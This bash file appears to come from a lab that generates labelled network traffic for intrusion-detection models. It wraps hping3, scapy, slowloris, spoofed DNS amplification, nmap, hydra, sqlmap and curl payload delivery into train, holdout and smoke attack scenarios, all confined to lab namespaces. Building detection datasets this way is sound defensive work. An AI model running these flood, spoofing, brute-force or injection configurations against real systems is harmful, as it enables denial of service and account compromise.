# shellcheck shell=bash
# Attack scenarios and the profiles that pick them. Each scenario runs from its own attacker
# namespace with its own address, created just before and deleted just after, so every flow of
# that address in that window is the scenario's. Every tool runs under timeout(1) and is bounded
# by count too (hping3/scapy -c, nmap port lists + --max-rate + --max-retries, hydra small
# wordlists and -t 2, slowhttptest -l, sqlmap timeout). Sourced by run.sh.
#
# A scenario line: "scenario label family victim_ip function [args...]". The function runs in a
# background subshell with ATK_NS (attacker namespace) and ATK_IP set. "bots N function args"
# runs it from N addresses at once (see botnet_run; run.sh allocates them).

P=$LAB_DIR/payloads
HYDRA_OPTS=(-t 2 -W 1 -I -q -o /dev/null)

# --- floods (dos) -------------------------------------------------------------------------
# SRC_IP, set by botnet_run, picks one of the attacker namespace's own addresses as source.
hping_flood() { # MODE-ARGS... : hping3 with a bounded count and interval
  inns "$ATK_NS" timeout -k 2 40 hping3 -q ${SRC_IP:+-a "$SRC_IP"} "$@" "$SRV_IP" >/dev/null 2>&1 || true
}
scapy_flood() { # KIND PORT COUNT INTERVAL
  inns "$ATK_NS" timeout -k 2 40 "$LAB_PY" "$LAB_DIR/py/flood.py" "$1" "$SRV_IP" "$2" "$3" "$4" ${SRC_IP:+"$SRC_IP"} || true
}
# botnet_run FUNCTION ARGS: FUNCTION once per address in BOT_IPS, all at once (several flooding
# hosts). The project's flow key puts all echo requests between two hosts in one ICMP flow, so a
# one-source ICMP flood would be a single labelled row.
botnet_run() {
  local ip pids=()
  for ip in "${BOT_IPS[@]}"; do
    SRC_IP=$ip "$@" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}
slowloris() { # URL CONNECTIONS RATE INTERVAL DURATION
  inns "$ATK_NS" timeout -k 2 $(($5 + 15)) slowhttptest -H -u "$1" -c "$2" -r "$3" -i "$4" -l "$5" -x 24 -p 3 >/dev/null 2>&1 || true
}
dns_amp() { # QNAME QTYPE COUNT INTERVAL: spoofed source = the victim namespace's address
  inns "$ATK_NS" timeout -k 2 40 "$LAB_PY" "$LAB_DIR/py/dns_amp.py" "$SRV_IP" "$VICTIM_IP" "$1" "$2" "$3" "$4" || true
}

# Scenario functions whose packets carry the victim's address as source, not the attacker's:
# their flows are labelled by that address (the victim namespace sends nothing else).
# shellcheck disable=SC2034 # used by run.sh
SPOOFED_SOURCE_FUNCS=(dns_amp)

# --- scans --------------------------------------------------------------------------------
nmap_scan() { # nmap args (scan type, ports, timing)
  inns "$ATK_NS" timeout -k 2 60 nmap -n -Pn --max-retries 1 --host-timeout 50s "$@" "$SRV_IP" >/dev/null 2>&1 || true
}

# --- brute force --------------------------------------------------------------------------
hydra_run() { # USERS PASSWORDS TARGET... (hydra's own target syntax)
  local users=$1 words=$2
  shift 2
  inns "$ATK_NS" timeout -k 2 30 hydra "${HYDRA_OPTS[@]}" -L "$users" -P "$words" "$@" >/dev/null 2>&1 || true
}

# --- web ----------------------------------------------------------------------------------
sqlmap_run() { # sqlmap args
  inns "$ATK_NS" timeout -k 2 60 sqlmap --batch --flush-session --disable-coloring --threads 2 \
    --output-dir "$LAB_TMP/sqlmap" --timeout 5 --retries 1 "$@" >/dev/null 2>&1 || true
}
# payload_get BASE_URL PARAM FILE ROUNDS [curl opts]: one request per payload per round.
payload_get() {
  local base=$1 param=$2 file=$3 rounds=$4 r line
  shift 4
  for ((r = 0; r < rounds; r++)); do
    while IFS= read -r line || [[ -n $line ]]; do
      [[ -z $line ]] && continue
      inns "$ATK_NS" timeout 5 curl -s -o /dev/null "$@" -G --data-urlencode "$param=$line" "$base" || true
    done <"$file"
  done
}
# payload_path BASE_URL FILE: the payload in the path itself, sent as is (no normalisation).
payload_path() { # BASE_URL FILE [curl opts]
  local base=$1 file=$2 line
  shift 2
  while IFS= read -r line || [[ -n $line ]]; do
    [[ -z $line || $line == *' '* ]] && continue
    inns "$ATK_NS" timeout 5 curl -s -o /dev/null "$@" --path-as-is "$base$line" || true
  done <"$file"
}

H=http://$SRV_IP
HS=https://$SRV_IP

TRAIN_SCENARIOS=(
  "syn-flood-hping3 syn-flood dos $SRV_IP hping_flood -S -p 80 -c 3000 -i u300"
  "udp-flood-hping3 udp-flood dos $SRV_IP hping_flood --udp -p 9999 -d 100 -c 3000 -i u300"
  "icmp-flood-hping3 icmp-flood dos $SRV_IP bots 6 hping_flood --icmp -d 64 -c 500 -i u800"
  "slowloris-http slowloris dos $SRV_IP slowloris $H/ 150 50 5 15"
  "dns-amp-txt-apex dns-amplification dos $VICTIM_IP dns_amp $LAB_ZONE TXT 400 0.01"
  "nmap-connect tcp-connect-scan scan $SRV_IP nmap_scan -sT -p 1-1024 --max-rate 1500"
  "nmap-syn syn-scan scan $SRV_IP nmap_scan -sS -p 1-1024 --max-rate 1500"
  "nmap-fin fin-scan scan $SRV_IP nmap_scan -sF -p 1-1024 --max-rate 1500"
  "nmap-xmas xmas-scan scan $SRV_IP nmap_scan -sX -p 1-1024 --max-rate 1500"
  "nmap-null null-scan scan $SRV_IP nmap_scan -sN -p 1-1024 --max-rate 1500"
  "hydra-ssh ssh-bruteforce bruteforce $SRV_IP hydra_run $P/users.train.txt $P/passwords.train.txt ssh://$SRV_IP"
  "hydra-ftp ftp-bruteforce bruteforce $SRV_IP hydra_run $P/users.train.txt $P/passwords.train.txt ftp://$SRV_IP"
  "hydra-http-basic http-auth-bruteforce bruteforce $SRV_IP hydra_run $P/users.train.txt $P/passwords.train.txt $SRV_IP http-get /private/"
  "hydra-rdp rdp-bruteforce bruteforce $SRV_IP hydra_run $P/users.train.txt $P/passwords.train.txt rdp://$SRV_IP"
  "sqlmap-item sqli web $SRV_IP sqlmap_run -u $H/app/item?id=1 --technique=BEU --level 1 --risk 1 --tables"
  "curl-xss xss web $SRV_IP payload_get $H/app/search q $P/xss.train.txt 2"
  "curl-cmdi command-injection web $SRV_IP payload_get $H/app/ping host $P/cmdi.train.txt 2"
  "curl-traversal path-traversal web $SRV_IP payload_get $H/app/download file $P/traversal.train.txt 2"
  "curl-traversal-path path-traversal web $SRV_IP payload_path $H/static/ $P/traversal.train.txt"
  "curl-inclusion file-inclusion web $SRV_IP payload_get $H/app/page file $P/inclusion.train.txt 2"
  "hydra-https-basic-train http-auth-bruteforce bruteforce $SRV_IP hydra_run $P/users.train.txt $P/passwords.train.txt -S -s 443 $SRV_IP https-get /private/"
  "curl-xss-https xss web $SRV_IP payload_get $HS/app/search q $P/xss.train.txt 2 -k"
  "curl-cmdi-https command-injection web $SRV_IP payload_get $HS/app/ping host $P/cmdi.train.txt 2 -k"
  "curl-traversal-https path-traversal web $SRV_IP payload_get $HS/app/download file $P/traversal.train.txt 2 -k"
  "curl-traversal-path-https path-traversal web $SRV_IP payload_path $HS/static/ $P/traversal.train.txt -k"
  "curl-traversal-path-root path-traversal web $SRV_IP payload_path $H/ $P/traversal.train.txt"
  "curl-traversal-path-img path-traversal web $SRV_IP payload_path $HS/images/ $P/traversal.train.txt -k"
  "curl-inclusion-https file-inclusion web $SRV_IP payload_get $HS/app/page file $P/inclusion.train.txt 2 -k"
)

# Train has the web attacks and the basic-auth brute force over both http and https, so the
# transport is not what the models learn; the holdout keeps its own payload lists and wordlists.
# Same labels and families, other tools or parameters: scapy instead of hping3 for SYN/UDP,
# other sizes/ports/rates, slowloris over TLS, TXT instead of ANY, other nmap port lists and
# timing, other wordlists, basic auth over HTTPS, another sqlmap technique set, other payloads.
HOLDOUT_SCENARIOS=(
  "syn-flood-scapy syn-flood dos $SRV_IP scapy_flood syn 443 1500 0.002"
  "udp-flood-scapy udp-flood dos $SRV_IP scapy_flood udp 5353 1500 0.002"
  "icmp-flood-scapy icmp-flood dos $SRV_IP bots 4 scapy_flood icmp 0 300 0.002"
  "slowloris-https slowloris dos $SRV_IP slowloris $HS/ 60 20 3 10"
  "dns-amp-txt dns-amplification dos $VICTIM_IP dns_amp big.$LAB_ZONE TXT 200 0.02"
  "nmap-connect-top tcp-connect-scan scan $SRV_IP nmap_scan -sT -T3 --top-ports 300 --max-rate 600"
  "nmap-syn-list syn-scan scan $SRV_IP nmap_scan -sS -T3 -p 20-25,53,80,110-143,443,1000-1400,3306,3389,8080 --max-rate 600"
  "nmap-fin-high fin-scan scan $SRV_IP nmap_scan -sF -p 1025-1400 --max-rate 500"
  "nmap-xmas-top xmas-scan scan $SRV_IP nmap_scan -sX --top-ports 200 --max-rate 500"
  "nmap-null-high null-scan scan $SRV_IP nmap_scan -sN -p 2000-2300 --max-rate 500"
  "hydra-ssh-alt ssh-bruteforce bruteforce $SRV_IP hydra_run $P/users.holdout.txt $P/passwords.holdout.txt ssh://$SRV_IP"
  "hydra-ftp-alt ftp-bruteforce bruteforce $SRV_IP hydra_run $P/users.holdout.txt $P/passwords.holdout.txt ftp://$SRV_IP"
  "hydra-https-basic http-auth-bruteforce bruteforce $SRV_IP hydra_run $P/users.holdout.txt $P/passwords.holdout.txt -S -s 443 $SRV_IP https-get /private/"
  "hydra-rdp-alt rdp-bruteforce bruteforce $SRV_IP hydra_run $P/users.holdout.txt $P/passwords.holdout.txt rdp://$SRV_IP"
  "sqlmap-item-bool sqli web $SRV_IP sqlmap_run -u $H/app/item?id=2 --technique=BU --level 2 --random-agent --tamper=space2comment --banner"
  "curl-xss-alt xss web $SRV_IP payload_get $HS/app/search q $P/xss.holdout.txt 2 -k"
  "curl-cmdi-alt command-injection web $SRV_IP payload_get $HS/app/ping host $P/cmdi.holdout.txt 2 -k"
  "curl-traversal-alt path-traversal web $SRV_IP payload_path $H/static/ $P/traversal.holdout.txt"
  "curl-inclusion-alt file-inclusion web $SRV_IP payload_get $HS/app/page file $P/inclusion.holdout.txt 2 -k"
)

SMOKE_SCENARIOS=(
  "syn-flood-smoke syn-flood dos $SRV_IP hping_flood -S -p 80 -c 400 -i u1000"
)
